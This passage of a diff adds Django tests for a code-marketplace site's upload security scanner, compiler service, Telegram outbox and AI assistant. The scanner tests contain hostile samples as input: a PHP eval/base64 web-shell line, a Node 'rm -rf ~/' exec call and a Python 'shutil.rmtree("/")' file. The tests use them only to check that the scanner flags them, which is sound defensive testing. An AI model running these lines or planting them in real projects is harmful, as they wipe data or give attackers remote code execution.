+        self.assertEqual(prescan_text(hidden, 'a.py').verdict, DANGER)
+        self.assertEqual(prescan_text('import re\nP = re.compile("x")\nprint(P)\n', 'a.py').verdict, SAFE)
+
+    def test_generic_rules_and_entropy(self):
+        self.assertEqual(prescan_text('<?php @eval(base64_decode($_POST["x"])); ?>', 'a.php').verdict, DANGER)
+        self.assertEqual(prescan_text('v.erase(std::remove(v.begin(), v.end(), 3), v.end());', 'a.cpp').verdict, SAFE)
+        # Izohdagi buyruq - faqat UNSURE, bajarilayotgani - DANGER
+        self.assertEqual(prescan_text('// rm -rf / qilmang\n', 'a.js').verdict, UNSURE)
+        self.assertEqual(prescan_text('require("child_process").execSync("rm -rf ~/")', 'a.js').verdict, DANGER)
+        blob = base64.b64encode(bytes(range(256)) * 2).decode()
+        self.assertEqual(prescan_text(f'var k = "{blob}";', 'a.js').verdict, UNSURE)
+        self.assertEqual(prescan_text(f'<img src="data:image/png;base64,{blob}">', 'a.html').verdict, SAFE)
+
+
+class ChunkScanTests(TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def _artifact(self, data, name='katta.py'):
+        path = os.path.join(self.tmp.name, 'blob')
+        with open(path, 'wb') as f:
+            f.write(data)
+        return ScanArtifact(path, name)
+
+    def _body(self, functions, risky_at=()):
+        parts = []
+        for i in range(functions):
+            call = '    os.remove(path)\n' if i in risky_at else ''
+            parts.append(f'def funksiya_{i}(path):\n{call}    return [x * {i} for x in range(10)]\n\n')
+        return ('import os\n\n' + ''.join(parts)).encode()
+
+    def test_chunks_cover_whole_file_with_overlap(self):
+        artifact = self._artifact(self._body(2000))
+        chunks = [chunk for chunk, _ in iter_chunks(artifact)]
+        self.assertGreater(len(chunks), 5)
+        self.assertEqual(chunks[0].offset, 0)
+        self.assertEqual(chunks[-1].offset + chunks[-1].length, artifact.size)
+        for previous, current in zip(chunks, chunks[1:]):
+            self.assertLessEqual(previous.length, CHUNK_BYTES)
+            self.assertLess(current.offset, previous.offset + previous.length)  # Qoplanish bor
+            self.assertLessEqual(current.start_line, previous.end_line)
+        # Qator raqamlari to'g'ri: bo'lak matni shu qatordan boshlanadi
+        lines = artifact.read_slice(artifact.size).decode().split('\n')
+        chunk, text = list(iter_chunks(artifact))[3]
+        self.assertEqual(text.split('\n')[0], lines[chunk.start_line - 1])
+
+    def test_only_risky_chunks_reach_gemini_and_results_merge(self):
+        artifact = self._artifact(self._body(2000, risky_at={50, 1500}))
+        limiter = RateLimiter(per_minute=6000, burst=10)
+        answers = iter(['SAFE: toza', 'DANGER: tizim fayllarini o\'chiradi'])
+        lock = threading.Lock()
+
+        def fake_gemini(text, context=''):
+            with lock:
+                return next(answers)
+
+        with mock.patch('projects.chunk_scan.scan_with_gemini', side_effect=fake_gemini) as gemini:
+            result = scan_chunks(artifact, limiter=limiter)
+        self.assertEqual(gemini.call_count, 2)
+        self.assertTrue(all('os.remove' in call.args[0] for call in gemini.call_args_list))
+        self.assertTrue(result.startswith('DANGER'))
+
+        with mock.patch('projects.chunk_scan.scan_with_gemini', return_value='SAFE: toza'):
+            self.assertTrue(scan_chunks(artifact, limiter=limiter).startswith('SAFE'))
+            # Limitdan ortiq shubhali bo'lak AI'siz qoladi -> na SAFE, na DANGER ('warning')
+            result = scan_chunks(artifact, limiter=limiter, max_llm_chunks=1)
+        self.assertEqual(decide_verdict(result, None), ('warning', None))
+
+    def test_rate_limiter_bounds_throughput(self):
+        limiter = RateLimiter(per_minute=600, burst=2)  # 10/s
+        start = time.monotonic()
+        self.assertTrue(all(limiter.acquire() for _ in range(4)))
+        self.assertGreaterEqual(time.monotonic() - start, 0.15)
+        slow = RateLimiter(per_minute=1, burst=1)
+        self.assertTrue(slow.acquire(timeout=0))
+        self.assertFalse(slow.acquire(timeout=0.1))  # Keyingi token 60 soniyadan keyin
+
+
+class ArchiveScanTests(TestCase):
+    def setUp(self):
+        self.tmp = tempfile.TemporaryDirectory()
+        self.path = os.path.join(self.tmp.name, 'blob')
+
+    def tearDown(self):
+        self.tmp.cleanup()
+
+    def _zip(self, members, name='loyiha.zip'):
+        with zipfile.ZipFile(self.path, 'w', zipfile.ZIP_DEFLATED) as archive:
+            for member, data in members.items():
+                archive.writestr(member, data)
+        return ScanArtifact(self.path, name)
+
+    def _risky(self, i):
+        return f'import os\n\ndef tozalash_{i}(path):\n    os.remove(path)\n'
+
+    def test_only_riskiest_members_reach_gemini(self):
+        members = {f'src/modul_{i}.py': self._risky(i) for i in range(4)}
+        members['src/main.py'] = 'print("salom")\n'
+        members['assets/logo.png'] = b'\x89PNG\x00' * 100
+        members['bin/tool.exe'] = b'MZ\x00' * 100
+        gemini = mock.Mock(return_value='SAFE: toza')
+        with mock.patch('projects.chunk_scan.scan_with_gemini', gemini):
+            report = scan_archive(self._zip(members), max_llm_members=2, limiter=RateLimiter(6000, 10))
+
+        self.assertEqual(gemini.call_count, 2)
+        self.assertTrue(all('os.remove' in call.args[0] for call in gemini.call_args_list))
+        # .exe va AI'ga sig'magan 2 ta shubhali fayl tekshirilmadi -> 'warning'
+        self.assertEqual(decide_verdict(report.summary, None), ('warning', None))
+        self.assertIn('bin/tool.exe', {f.path for f in report.findings})
+        self.assertNotIn('assets/logo.png', report.summary)
+
+    def test_zip_bomb_is_rejected_without_expanding(self):
+        report = scan_archive(self._zip({'data.txt': b'\x00' * (5 * 1024 * 1024)}))
+        self.assertTrue(report.summary.startswith('DANGER: Arxiv bomba'))
+        with override_settings(ARCHIVE_MAX_MEMBERS=3):
+            report = scan_archive(self._zip({f'{i}.py': 'x = 1\n' for i in range(5)}))
+        self.assertIn("a'zolar soni", report.summary)
+
+    @override_settings(ARCHIVE_SCAN_PROCESSES=2)
+    def test_large_archive_is_scanned_in_process_pool(self):
+        members = {f'pkg/m{i}.py': f'def f{i}(x):\n    return x * {i}\n' for i in range(60)}
+        self.assertTrue(scan_archive(self._zip(members)).summary.startswith('SAFE'))
+        members['pkg/zz_evil.py'] = 'import shutil\nshutil.rmtree("/")\n'
+        report = scan_archive(self._zip(members))
+        self.assertTrue(report.summary.startswith('DANGER'))
+        self.assertIn('pkg/zz_evil.py', report.summary)
+
+    def test_pipeline_stores_member_findings(self):
+        self._zip({'README.md': '# Loyiha', 'app.py': 'print(1)\n', 'evil.py': 'import shutil\nshutil.rmtree("/")\n'})
+        project = Project.objects.create(
+            author=User.objects.create_user(username='arxiv'), title='Arxiv', description='test',
+            source_code='project_code/bundle.zip', image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        gemini = mock.Mock(return_value='SAFE: toza')
+        with mock.patch('projects.scan_pipeline.get_source_cache') as cache, \
+                mock.patch('projects.chunk_scan.scan_with_gemini', gemini), \
+                mock.patch('projects.scan_pipeline.lookup_virustotal_hash', return_value=None), \
+                mock.patch('projects.scan_pipeline.scan_with_virustotal', return_value=('https://vt/x', 'success')):
+            cache.return_value.get_path.return_value = self.path
+            cache.return_value.root = self.tmp.name
+            run_security_scan(project.pk)
+
+        project.refresh_from_db()
+        self.assertFalse(gemini.called)
+        self.assertEqual((project.security_status, project.is_frozen), ('danger', True))
+        finding = project.scan_findings.get()
+        self.assertEqual((finding.path, finding.verdict), ('evil.py', 'danger'))
+
+
+class OutboundClientTests(TestCase):
+    def _dependency(self, responses, **kwargs):
+        dep = Dependency('test', **{'retries': 2, 'threshold': 2, 'reset': 60, **kwargs})
+        dep.session = mock.Mock()
+        dep.session.request.side_effect = responses
+        return dep
+
+    def test_get_retries_with_backoff_then_succeeds(self):
+        dep = self._dependency([mock.Mock(status_code=503), requests.exceptions.ConnectionError(),
+                                mock.Mock(status_code=200)])
+        with mock.patch('projects.http_client.time.sleep') as sleep:
+            self.assertEqual(dep.get('https://api.example.com/x').status_code, 200)
+        self.assertEqual(sleep.call_count, 2)
+        self.assertEqual(dep.session.request.call_args.kwargs['timeout'], dep.timeout)  # Standart timeout
+        host = dep.stats()['hosts']['api.example.com']
+        self.assertEqual((host['requests'], host['errors'], host['retries']), (3, 2, 2))
+        self.assertEqual(dep.stats()['state'], CircuitBreaker.CLOSED)
+
+    def test_post_is_not_resent_after_read_timeout(self):
+        dep = self._dependency([requests.exceptions.ReadTimeout()])
+        with self.assertRaises(requests.exceptions.ReadTimeout):
+            dep.post('https://api.example.com/submit', json={})
+        self.assertEqual(dep.session.request.call_count, 1)
+
+    def test_breaker_opens_and_fails_fast(self):
+        dep = self._dependency([requests.exceptions.ConnectTimeout()] * 10, retries=0)
+        for _ in range(2):
+            with self.assertRaises(requests.exceptions.ConnectTimeout):
+                dep.get('https://judge.example.com/')
+        with self.assertRaises(CircuitOpenError):
+            dep.get('https://judge.example.com/')
+        self.assertEqual(dep.session.request.call_count, 2)  # Uchinchisi tarmoqqa chiqmadi
+        self.assertEqual(dep.stats()['hosts']['judge.example.com']['short_circuited'], 1)
+
+        # reset o'tgach bitta sinov so'rovi; muvaffaqiyatli bo'lsa breaker yopiladi
+        dep.breaker.opened_at -= 61
+        dep.session.request.side_effect = [mock.Mock(status_code=404)]
+        self.assertEqual(dep.get('https://judge.example.com/').status_code, 404)
+        self.assertEqual(dep.breaker.state, CircuitBreaker.CLOSED)
+
+
+class TelegramOutboxTests(TransactionTestCase):
+    # Dispatcher chatlarni alohida oqimlarda yuboradi, shuning uchun tranzaksiyasiz test
+
+    def _response(self, status, body=None):
+        return mock.Mock(status_code=status, json=mock.Mock(return_value=body or {}), text='')
+
+    def test_purchase_writes_outbox_row_without_calling_telegram(self):
+        seller = User.objects.create_user(username='sotuvchi')
+        seller.profile.telegram_id = '777'
+        seller.profile.save()
+        buyer = User.objects.create_user(username='xaridor', password='parol12345')
+        buyer.profile.balance = 50
+        buyer.profile.save()
+        project = Project.objects.create(
+            author=seller, title='Pullik', description='test', price=10, image='project_thumbnails/test.jpg',
+            youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        self.client.login(username='xaridor', password='parol12345')
+
+        with mock.patch('projects.http_client.Dependency.request') as request:
+            self.client.get(reverse('buy_project', args=[project.pk]))
+            trx = Transaction.objects.get(user=buyer, project=project)
+            self.client.get(reverse('confirm_purchase', args=[trx.pk]))
+        request.assert_not_called()
+
+        texts = list(TelegramMessage.objects.filter(chat_id='777').order_by('id').values_list('text', flat=True))
+        self.assertEqual(len(texts), 2)
+        self.assertIn('Pullik', texts[0])
+        self.assertIn('Pul yechildi', texts[1])
+
+    def test_rate_limiter_spaces_chats_and_global_rate(self):
+        now = [100.0]
+        limiter = ChatRateLimiter(rate=10, chat_interval=1.0, clock=lambda: now[0])
+        self.assertEqual(limiter.reserve('a'), 0)
+        self.assertAlmostEqual(limiter.reserve('b'), 0.1)  # Umumiy: soniyasiga 10 ta
+        self.assertAlmostEqual(limiter.reserve('a'), 1.0)  # Bitta chatga soniyasiga bitta
+        limiter.pause(30, 'b')
+        self.assertAlmostEqual(limiter.reserve('b'), 30.0)
+
+    def test_dispatcher_sends_batch_and_classifies_failures(self):
+        for chat in ('ok', 'ok', 'blocked', 'busy', 'busy', 'down'):
+            enqueue(chat, f'Salom {chat}')
+        enqueue('', 'Telegram ulanmagan')  # Yozilmaydi
+        responses = {
+            'ok': self._response(200),
+            'blocked': self._response(403, {'description': 'Forbidden: bot was blocked by the user'}),
+            'busy': self._response(429, {'parameters': {'retry_after': 30}}),
+            'down': self._response(502),
+        }
+        client = mock.Mock()
+        client.post.side_effect = lambda url, json: responses[json['chat_id']]
+
+        dispatcher = TelegramDispatcher(batch_size=10, concurrency=2,
+                                        limiter=ChatRateLimiter(rate=1000, chat_interval=0))
+        with mock.patch('projects.telegram_outbox.get_client', return_value=client):
+            self.assertEqual(dispatcher.run(once=True), 6)
+
+        rows = {m.pk: m for m in TelegramMessage.objects.all()}
+        by_chat = {}
+        for m in rows.values():
+            by_chat.setdefault(m.chat_id, []).append((m.status, m.attempts))
+        self.assertEqual(by_chat['ok'], [(TelegramMessage.SENT, 1)] * 2)
+        self.assertEqual(by_chat['blocked'], [(TelegramMessage.FAILED, 1)])
+        # 429: ikkinchi xabar yuborilmadi ham, ikkalasi ham urinish hisoblanmasdan retry_after ga qoldirildi
+        self.assertEqual(by_chat['busy'], [(TelegramMessage.QUEUED, 0)] * 2)
+        self.assertEqual(by_chat['down'], [(TelegramMessage.QUEUED, 1)])
+        self.assertEqual(client.post.call_count, 5)
+        busy = TelegramMessage.objects.filter(chat_id='busy').first()
+        self.assertGreater(busy.run_after, timezone.now() + timedelta(seconds=25))
+        self.assertEqual(claim_batch('w2', 10), [])  # Hammasi backoff muddatini kutmoqda
+
+    @override_settings(TELEGRAM_OUTBOX_MAX_ATTEMPTS=2)
+    def test_retries_stop_after_max_attempts(self):
+        message = enqueue('down', 'Salom')
+        client = mock.Mock()
+        client.post.side_effect = requests.exceptions.ConnectionError('tarmoq')
+        dispatcher = TelegramDispatcher(batch_size=10, concurrency=1,
+                                        limiter=ChatRateLimiter(rate=1000, chat_interval=0))
+        with mock.patch('projects.telegram_outbox.get_client', return_value=client):
+            dispatcher.run(once=True)
+            TelegramMessage.objects.filter(pk=message.pk).update(run_after=timezone.now())
+            dispatcher.run(once=True)
+        message.refresh_from_db()
+        self.assertEqual((message.status, message.attempts), (TelegramMessage.FAILED, 2))
+        self.assertIn('tarmoq', message.last_error)
+
+
+@override_settings(COMPILER_BACKEND='judge0')
+class CompilerTests(TestCase):
+    def _judge0(self, token='tok-1', batch=None):
+        client = mock.Mock()
+        client.post.return_value = mock.Mock(status_code=201, json=lambda: {'token': token})
+        client.get.return_value = mock.Mock(status_code=200, json=lambda: {'submissions': batch or []})
+        return client
+
+    def _finished(self, token, stdout):
+        return {'token': token, 'status': {'id': 3}, 'stdout': base64.b64encode(stdout.encode()).decode()}
+
+    def test_submit_returns_token_without_waiting_and_poller_fills_result(self):
+        client = self._judge0()
+        with mock.patch('projects.compiler.get_client', return_value=client), \
+                mock.patch('projects.compiler.get_poller') as poller, \
+                mock.patch('time.sleep') as sleep:
+            response = self.client.post(reverse('compiler_submit'), {'code': 'print(1)', 'language': 'python'})
+        self.assertEqual(response.status_code, 202)
+        self.assertFalse(sleep.called)
+        poller.return_value.watch.assert_called_once_with('tok-1')
+        self.assertEqual(self.client.get(response.json()['result_url']).json()['status'], 'queued')
+
+        # Fon poller: bitta batch so'rovi bilan natijani bazaga yozadi
+        client.get.return_value.json = lambda: {'submissions': [self._finished('tok-1', '1\n')]}
+        with mock.patch('projects.compiler.get_client', return_value=client):
+            self.assertEqual(compiler.fetch_results(['tok-1']), {'tok-1'})
+        self.assertEqual(client.get.call_args.kwargs['params']['tokens'], 'tok-1')
+        self.assertEqual(self.client.get(response.json()['result_url']).json(), {'status': 'done', 'result': '1\n'})
+
+    @override_settings(JUDGE0_CALLBACK_URL='https://devtube.test', COMPILER_BACKEND='judge0')
+    def test_signed_callback_stores_result(self):
+        client = self._judge0(token='tok-2')
+        with mock.patch('projects.compiler.get_client', return_value=client), \
+                mock.patch('projects.compiler.get_poller') as poller:
+            compiler.submit('print(2)', 'python')
+        self.assertFalse(poller.called)
+        callback_url = client.post.call_args.kwargs['json']['callback_url']
+        self.assertTrue(callback_url.startswith('https://devtube.test/compiler/callback/'))
+        path = callback_url[len('https://devtube.test'):]
+
+        body = self._finished('tok-2', '2\n')
+        forged = self.client.put(reverse('compiler_callback', args=['soxta']), data=body, content_type='application/json')
+        self.assertEqual(forged.status_code, 403)
+        self.assertEqual(self.client.put(path, data=body, content_type='application/json').status_code, 200)
+        self.assertEqual(CompilerRun.objects.get(token='tok-2').result, '2\n')
+
+    def test_judge0_time_limit_and_internal_error_are_failed_and_not_cached(self):
+        for token in ('tok-tle', 'tok-ie'):
+            CompilerRun.objects.create(token=token, language='python', cache_key='kalit')
+        batch = [{'token': 'tok-tle', 'status': {'id': 5, 'description': 'Time Limit Exceeded'}},
+                 {'token': 'tok-ie', 'status': {'id': 13, 'description': 'Internal Error'}}]
+        with mock.patch('projects.compiler.get_client', return_value=self._judge0(batch=batch)):
+            self.assertEqual(compiler.fetch_results(['tok-tle', 'tok-ie']), {'tok-tle', 'tok-ie'})
+        self.assertEqual(compiler.get_result('tok-tle')['status'], CompilerRun.FAILED)
+        self.assertIn('Internal Error', compiler.get_result('tok-ie')['result'])
+        self.assertIsNone(ResultCache(max_entries=10, max_bytes=1024, ttl=3600).get('kalit'))
+
+    def test_invalid_submission_and_timeout(self):
+        response = self.client.post(reverse('compiler_submit'), {'code': 'x', 'language': 'cobol'})
+        self.assertEqual(response.status_code, 400)
+        run = CompilerRun.objects.create(token='tok-3', language='python')
+        CompilerRun.objects.filter(pk=run.pk).update(created_at=timezone.now() - timedelta(seconds=60))
+        self.assertEqual(compiler.get_result('tok-3')['status'], CompilerRun.FAILED)
+
+
+@override_settings(COMPILER_BACKEND='judge0')
+class CompilerCacheTests(TestCase):
+    def setUp(self):
+        self.cache = ResultCache(max_entries=100, max_bytes=1024 * 1024, ttl=3600)
+        patcher = mock.patch('projects.compiler.get_result_cache', return_value=self.cache)
+        patcher.start()
+        self.addCleanup(patcher.stop)
+
+    def _judge0(self, *tokens):
+        client = mock.Mock()
+        client.post.side_effect = [mock.Mock(status_code=201, json=lambda t=t: {'token': t}) for t in tokens]
+        return client
+
+    def test_repeat_run_is_served_from_cache(self):
+        client = self._judge0('tok-c1', 'tok-c3')
+        with mock.patch('projects.compiler.get_client', return_value=client), \
+                mock.patch('projects.compiler.get_poller'):
+            compiler.submit('print(5)', 'python', '')
+        compiler._finish('tok-c1', '5\n')  # Poller yozdi
+
+        with mock.patch('projects.compiler.get_client', return_value=client), \
+                mock.patch('projects.compiler.get_poller'):
+            response = self.client.post(reverse('compiler_submit'), {'code': 'print(5)', 'language': 'python'})
+            again = compiler.submit('print(5)', 'python', '')
+            other_stdin = compiler.submit('print(5)', 'python', '1')
+        self.assertEqual(response.status_code, 200)
+        self.assertEqual(response.json()['result'], '5\n')
+        self.assertEqual(again.result, '5\n')
+        self.assertEqual(other_stdin.status, CompilerRun.QUEUED)  # Boshqa kiritish - boshqa kalit
+        self.assertEqual(client.post.call_count, 2)
+        stats = self.cache.stats()
+        self.assertEqual((stats['db_hits'], stats['hits'], stats['misses']), (1, 1, 2))
+
+    def test_time_and_randomness_bypass_cache(self):
+        self.assertTrue(is_deterministic('n = int(input())\nprint(n * n)'))
+        for code in ('import random\nprint(random.randint(1, 6))', 'import time\nprint(time.time())',
+                     'console.log(Date.now())', 'console.log(Math.random())', 'srand(time(0));'):
+            self.assertFalse(is_deterministic(code), code)
+
+        client = self._judge0('tok-c2')
+        with mock.patch('projects.compiler.get_client', return_value=client), \
+                mock.patch('projects.compiler.get_poller'):
+            run = compiler.submit('import random\nprint(random.random())', 'python')
+        self.assertEqual(run.cache_key, '')
+        self.assertEqual(self.cache.stats()['bypassed'], 1)
+
+    def test_lru_eviction_and_ttl(self):
+        cache = ResultCache(max_entries=2, max_bytes=1024, ttl=3600)
+        cache.put('a', '1')
+        cache.put('b', '2')
+        cache.get('a')
+        cache.put('c', '3')  # 'b' eng uzoq ishlatilmagan
+        self.assertEqual((cache.get('a'), cache.get('b'), cache.get('c')), ('1', None, '3'))
+        self.assertEqual(cache.stats()['evictions'], 1)
+
+        expired = ResultCache(max_entries=2, max_bytes=1024, ttl=0)
+        expired.put('a', '1')
+        self.assertIsNone(expired.get('a'))
+
+
+class AIAssistantTests(TestCase):
+    def setUp(self):
+        self.project = Project.objects.create(
+            author=User.objects.create_user(username='sotuvchi'), title='Telegram bot', description='Bot',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        self.model = mock.Mock()
+        self.model.models.generate_content.return_value = mock.Mock(text='Bu bot xabar yuboradi.')
+        for target, value in (('projects.ai_assistant.get_client', self.model),
+                              ('projects.ai_assistant.get_answer_cache', AnswerCache(ttl=3600))):
+            patcher = mock.patch(target, return_value=value)
+            patcher.start()
+            self.addCleanup(patcher.stop)
+
+    def _ask(self, question):
+        response = self.client.post(reverse('project_ai_ask', args=[self.project.pk]),
+                                    data={'question': question}, content_type='application/json')
+        return response.json()['answer']
+
+    def test_normalized_repeat_questions_hit_cache_until_project_changes(self):
+        self.assertEqual(normalize_question("  Bu NIMA qiladi?? "), normalize_question("bu nima qiladi"))
+        self.assertEqual(normalize_question("narxi qancha, o‘rtacha?"), "narxi qancha o'rtacha")
+
+        self.assertEqual(self._ask("Bu nima qiladi?"), 'Bu bot xabar yuboradi.')
+        self.assertEqual(self._ask("bu nima qiladi"), 'Bu bot xabar yuboradi.')
+        self.assertEqual(self.model.models.generate_content.call_count, 1)
+        self.assertIn("Loyiha nomi: 'Telegram bot'", self.model.models.generate_content.call_args.kwargs['contents'])
+
+        self.project.description = 'Yangi tavsif'
+        self.project.save()
+        self._ask("Bu nima qiladi?")
+        self.assertEqual(self.model.models.generate_content.call_count, 2)
+
+    def test_stream_relays_chunks_as_they_arrive_then_caches(self):
+        produced = []
+
+        def stub_stream(model, contents):
+            for text in ('Bu bot ', 'xabar ', 'yuboradi.'):
+                produced.append(text)
+                yield mock.Mock(text=text)
+        self.model.models.generate_content_stream.side_effect = stub_stream
+
+        response = self.client.post(reverse('project_ai_stream', args=[self.project.pk]),
+                                    data={'question': 'Bu nima qiladi?'}, content_type='application/json')
+        self.assertEqual(response['Content-Type'], 'text/event-stream; charset=utf-8')
+        events = iter(response.streaming_content)
+        self.assertEqual(next(events), b': ok\n\n')
+        self.assertEqual(next(events), b'data: {"text": "Bu bot "}\n\n')
+        self.assertEqual(produced, ['Bu bot '])  # Model hali tugamagan
+        rest = b''.join(events).decode()
+        self.assertTrue(rest.endswith('event: done\ndata: {}\n\n'))
+        response.close()
+
+        self.assertEqual(self._ask('bu nima qiladi'), 'Bu bot xabar yuboradi.')
+        self.assertFalse(self.model.models.generate_content.called)
+
+    def test_stream_reports_model_error_as_event(self):
+        self.model.models.generate_content_stream.side_effect = RuntimeError('kvota')
+        response = self.client.post(reverse('project_ai_stream', args=[self.project.pk]),
+                                    data={'question': 'Narxi?'}, content_type='application/json')
+        body = b''.join(response.streaming_content).decode()
+        response.close()
+        self.assertIn('event: error', body)
+        self.assertIn('kvota', body)
+        self.assertEqual(admission.get_gate('ai').stats()['active'], 0)
+
+    def test_relevant_code_chunks_are_added_to_prompt(self):
+        with tempfile.TemporaryDirectory() as tmp:
+            path = os.path.join(tmp, 'blob')
+            with zipfile.ZipFile(path, 'w') as archive:
+                archive.writestr('bot/handlers.py', 'def send_welcome(message):\n    bot.reply_to(message, "Salom")\n')
+                archive.writestr('bot/payments.py', 'def create_invoice(amount):\n    return click.invoice(amount)\n')
+                archive.writestr('node_modules/lib/index.js', 'function invoice() {}\n')
+            build_project_index(self.project, ScanArtifact(path, 'bot.zip'))
+
+        self._ask("Invoice qanday yaratiladi?")
+        prompt = self.model.models.generate_content.call_args.kwargs['contents']
+        self.assertIn('--- bot/payments.py (1-2 qatorlar) ---', prompt)
+        self.assertNotIn('send_welcome', prompt)
+        self.assertNotIn('node_modules', prompt)
+
+        # Yangi kod - yangi versiya: keshdagi javob ishlatilmaydi
+        CodeIndex.objects.filter(project=self.project).update(sha256='boshqa')
+        self._ask("Invoice qanday yaratiladi?")
+        self.assertEqual(self.model.models.generate_content.call_count, 2)
+
+    def test_paid_project_code_is_only_quoted_for_buyers(self):
+        Project.objects.filter(pk=self.project.pk).update(price=10)
+        with tempfile.TemporaryDirectory() as tmp:
+            path = os.path.join(tmp, 'blob')
+            with zipfile.ZipFile(path, 'w') as archive:
+                archive.writestr('bot/payments.py', 'def create_invoice(amount):\n    return click.invoice(amount)\n')
+            build_project_index(self.project, ScanArtifact(path, 'bot.zip'))
+        self.model.models.generate_content.side_effect = [mock.Mock(text='Umumiy javob.'),
+                                                          mock.Mock(text='Kodli javob.')]
+
+        self.assertEqual(self._ask("Invoice qanday yaratiladi?"), 'Umumiy javob.')
+        prompt = self.model.models.generate_content.call_args.kwargs['contents']
+        self.assertNotIn('click.invoice', prompt)
+        self.assertIn('faqat xaridorlar uchun ochiq', prompt)
+
+        # Xaridor mehmonning (kodsiz) javobini keshdan olmaydi - kalit kirish huquqiga bog'liq
+        buyer = User.objects.create_user(username='xaridor')
+        self.project.buyers.add(buyer)
+        self.client.force_login(buyer)
+        self.assertEqual(self._ask("Invoice qanday yaratiladi?"), 'Kodli javob.')
+        self.assertIn('click.invoice', self.model.models.generate_content.call_args.kwargs['contents'])
+
+        # Oqimli endpoint ham: mehmon xaridorning kodli javobini olmaydi
+        self.client.logout()
+        response = self.client.post(reverse('project_ai_stream', args=[self.project.pk]),
+                                    data={'question': 'invoice qanday yaratiladi'}, content_type='application/json')
+        body = b''.join(response.streaming_content).decode()
+        response.close()
+        self.assertIn('Umumiy javob.', body)
+        self.assertNotIn('Kodli', body)
+
+    def test_errors_are_not_cached(self):
+        self.model.models.generate_content.side_effect = RuntimeError('kvota')
+        self.assertIn('kvota', self._ask("narxi qancha?"))
+        self.model.models.generate_content.side_effect = None
+        self.assertEqual(self._ask("narxi qancha?"), 'Bu bot xabar yuboradi.')
+
+
+class CodeIndexTests(TestCase):
+    def test_bm25_ranks_by_identifiers_and_roundtrips_compactly(self):
+        files = [(f'app/modul_{i}.py', f'def helper_{i}(x):\n    return x + {i}\n' * 30) for i in range(20)]
+        files.append(('app/auth.py', 'def checkUserPassword(user, password):\n    return hash(password) == user.pw\n'))
+        index = CodeIndexData.build(files)
+
+        best = index.search('foydalanuvchi password tekshiruvi', k=2)
+        self.assertEqual(best[0][0], 'app/auth.py')
+        self.assertEqual(index.search('user', k=1)[0][0], 'app/auth.py')  # checkUserPassword -> check, user, password
+        self.assertEqual(index.search('qanday ishlaydi'), [])  # Faqat to'xtatuvchi so'zlar
+
+        data = index.to_bytes()
+        raw = sum(len(text) for _, text in files)
+        self.assertLess(len(data), raw // 4)
+        self.assertEqual(CodeIndexData.from_bytes(data).search('password', k=1), index.search('password', k=1))
+
+    def test_retrieve_respects_prompt_budget(self):
+        project = Project.objects.create(
+            author=User.objects.create_user(username='indeks'), title='Indeks', description='test',
+            image='project_thumbnails/test.jpg', youtube_link='https://youtu.be/dQw4w9WgXcQ',
+        )
+        with tempfile.TemporaryDirectory() as tmp:
+            path = os.path.join(tmp, 'main.py')
+            with open(path, 'w') as f:
+                f.write(''.join(f'def parser_{i}():\n    parse_data({i})\n' for i in range(200)))
+            self.assertGreater(build_project_index(project, ScanArtifact(path, 'project_code/main.py')), 1)
+
+        chunks = retrieve(project, 'parse data', k=10, max_chars=1500)
+        self.assertTrue(chunks)
+        self.assertLessEqual(sum(len(c[3]) for c in chunks), 1500)
+        self.assertEqual(chunks[0][0], 'main.py')
+
+
+@override_settings(ADMISSION_LIMITS={'compiler': {'concurrency': 1, 'queue': 1, 'wait': 0.05, 'per_client': 1}})
+class AdmissionTests(TestCase):
+    def setUp(self):
+        admission._gates.clear()
+        self.addCleanup(admission._gates.clear)
+
+    def test_gate_queues_then_rejects_busy_and_greedy_clients(self):
+        gate = admission.Gate('t', concurrency=1, queue=1, wait=0.05, per_client=1)
+        self.assertIsNone(gate.enter('a'))
+        self.assertEqual(gate.enter('a').status, 429)  # Bitta mijoz - bitta o'rin
+
+        rejected = gate.enter('b')  # Navbatda kutdi, o'rin bo'shamadi
+        self.assertEqual((rejected.status, gate.waiting), (503, 0))
+        self.assertGreaterEqual(rejected.retry_after, 1)
+
+        slow = admission.Gate('t', concurrency=1, queue=1, wait=5, per_client=1)
+        results = []
+        waiter = threading.Thread(target=lambda: results.append(slow.enter('b')))
+        self.assertIsNone(slow.enter('a'))
+        waiter.start()
+        while not slow.waiting:
+            time.sleep(0.001)
+        slow.leave('a', 0.01)
+        waiter.join()
+        self.assertEqual(results, [None])  # Kutib o'rin oldi
+        self.assertEqual((slow.stats()['queued'], slow.stats()['active']), (1, 1))
+
+    def test_client_key_ignores_spoofed_forwarded_for(self):
+        request = RequestFactory().get('/', HTTP_X_FORWARDED_FOR='6.6.6.6, 203.0.113.7', REMOTE_ADDR='10.0.0.1')
+        request.user = AnonymousUser()
+        self.assertEqual(admission.client_key(request), 'ip:10.0.0.1')
+        with override_settings(TRUSTED_PROXY_COUNT=1):
+            self.assertEqual(admission.client_key(request), 'ip:203.0.113.7')  # Proksi qo'shgan oxirgi qiymat
+
+    def test_internal_stats_api_is_superuser_only(self):
+        self.client.force_login(User.objects.create_user(username='oddiy'))
+        data = self.client.get('/api/admin-stats/').json()
+        self.assertIn('totalProjects', data)
+        for key in ('sourceCache', 'compilerCache', 'aiCache', 'outbound', 'admission', 'telegramOutbox'):
+            self.assertNotIn(key, data)
+
+        self.client.force_login(User.objects.create_superuser(username='boshliq', password='x'))
+        data = self.client.get('/api/admin-stats/').json()
+        self.assertIn('admission', data)
+        self.assertIn('telegramOutbox', data)
+
+    def test_full_endpoint_rejects_fast_while_cheap_pages_work(self):
+        gate = admission.get_gate('compiler')
+        gate.enter('ip:10.0.0.9')
+        self.addCleanup(gate.leave, 'ip:10.0.0.9', 0)
+
+        with mock.patch('projects.compiler.submit') as submit:
+            response = self.client.post(reverse('compiler_submit'), {'code': 'print(1)', 'language': 'python'})
+        self.assertFalse(submit.called)
+        self.assertEqual(response.status_code, 503)
+        self.assertIn('Retry-After', response)
+        self.assertIn('band', response.json()['result'])
+        self.assertEqual(self.client.get(reverse('home')).status_code, 200)
+        self.assertEqual(gate.stats()['rejected_busy'], 1)
+
+
+@skipUnless(sandbox.is_available(), "Lokal sandbox uchun Linux va `unshare -rn` kerak")
+class LocalSandboxTests(TestCase):
+    def test_python_runs_locally_and_returns_in_submit_response(self):
+        with mock.patch('projects.compiler.get_client') as judge0:
